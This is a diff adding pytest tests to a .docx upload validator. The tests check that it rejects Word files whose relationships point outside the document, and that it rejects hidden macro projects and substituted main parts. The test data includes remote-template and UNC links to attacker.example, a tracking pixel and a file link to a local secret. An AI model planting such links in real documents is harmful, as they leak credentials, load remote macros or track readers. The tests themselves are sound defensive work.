@@ -139,3 +139,85 @@ def test_a_word_file_saved_by_python_docx_with_headers_passes(build):
     document.add_paragraph("Bonjour")
     document.sections[0].header.paragraphs[0].text = "En-tête"
     check_docx(build.save(document))
+
+
+RELS = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>')
+R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+
+
+def _relation(kind: str, target: str, mode: str = ' TargetMode="External"') -> str:
+    return f'<Relationship Id="rId99" Type="{R}{kind}" Target="{target}"{mode}/>'
+
+
+def _add_relation(data: bytes, part: str, relation: str) -> bytes:
+    """Add a relationship to a part's .rels (created when the part has none)."""
+    members = _members(data)
+    folder, _, file = part.rpartition("/")
+    rels = f"{folder}/_rels/{file}.rels" if folder else f"_rels/{file}.rels"
+    if rels in members:
+        members[rels] = members[rels].replace(b"</Relationships>", relation.encode() + b"</Relationships>")
+    else:
+        members[rels] = RELS.format(relation).encode()
+    return _with(data, **members)
+
+
+@pytest.mark.parametrize("part, relation, shown_part", [
+    ("word/settings.xml", _relation("attachedTemplate", "https://attacker.example/t.dotm"), "word/settings.xml"),
+    ("word/settings.xml", _relation("attachedTemplate", "\\\\attacker.example\\share\\t.dotm"), "word/settings.xml"),
+    ("word/document.xml", _relation("oleObject", "file:///C:/secret/book.xlsx"), "word/document.xml"),
+    ("word/document.xml", _relation("image", "http://tracker.example/pixel.png"), "word/document.xml"),
+    ("word/document.xml", _relation("subDocument", "https://attacker.example/part.docx"), "word/document.xml"),
+    ("word/document.xml", _relation("hyperlink", "\\\\attacker.example\\share"), "word/document.xml"),
+    ("word/document.xml", _relation("hyperlink", "file://attacker.example/share"), "word/document.xml"),
+])
+def test_links_word_would_follow_by_itself_are_refused_naming_the_part(plain, part, relation, shown_part):
+    refusal = _refusal(_add_relation(plain, part, relation))
+    assert f"{shown_part} links to an outside" in refusal and "remove the link" in refusal, refusal
+
+
+@pytest.mark.parametrize("check", ["document", "template"])
+def test_a_remote_template_is_refused_from_templates_as_from_documents(build, check):
+    data = _add_relation(build.paragraphs("Article 1 {{ sponsor.name }}"), "word/settings.xml",
+                         _relation("attachedTemplate", "https://attacker.example/t.dotm"))
+    with pytest.raises(DocumentRejected) as refused:
+        check_docx(data) if check == "document" else check_template(data)
+    assert "word/settings.xml links to an outside attachedTemplate (https://attacker.example/t.dotm)" in \
+        refused.value.problems[0]
+
+
+def test_ordinary_hyperlinks_and_internal_relations_are_kept(plain):
+    data = _add_relation(plain, "word/document.xml", _relation("hyperlink", "https://www.gustaveroussy.fr/"))
+    check_docx(data)
+
+
+def test_a_macro_project_under_another_name_is_refused(plain):
+    members = _members(plain)
+    types = members["[Content_Types].xml"].replace(
+        b"</Types>", b'<Override PartName="/word/notes.bin" ContentType="application/vnd.ms-office.vbaProject"/>'
+                     b"</Types>")
+    data = _add_relation(_with(plain, **{"[Content_Types].xml": types, "word/notes.bin": b"\xd0\xcf\x11\xe0 vba"}),
+                         "word/document.xml", _relation("vbaProject", "notes.bin", mode=""))
+    assert "contains macros" in _refusal(data)
+    only_declared = _add_relation(plain, "word/document.xml",
+                                  _relation("vbaProject", "notes.bin", mode="").replace("rId99", "rId98"))
+    assert "contains macros" in _refusal(_with(only_declared, **{"word/notes.bin": b"x"}))
+
+
+@pytest.mark.parametrize("body", [
+    b'<?xml version="1.0"?><html><body><p>Article 1</p></body></html>',
+    b'<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>',
+])
+@pytest.mark.parametrize("check", ["document", "template"])
+def test_a_document_part_that_is_not_a_word_body_is_refused(plain, body, check):
+    data = _with(plain, **{"word/document.xml": body})
+    with pytest.raises(DocumentRejected) as refused:
+        check_docx(data) if check == "document" else check_template(data)
+    assert "word/document.xml does not hold a Word document body" in " | ".join(refused.value.problems)
+
+
+def test_a_main_part_elsewhere_is_refused(plain):
+    members = _members(plain)
+    rels = members["_rels/.rels"].replace(b'Target="word/document.xml"', b'Target="word/other.xml"')
+    refusal = _refusal(_with(plain, **{"_rels/.rels": rels, "word/other.xml": members["word/document.xml"]}))
+    assert "main part is word/other.xml" in refusal
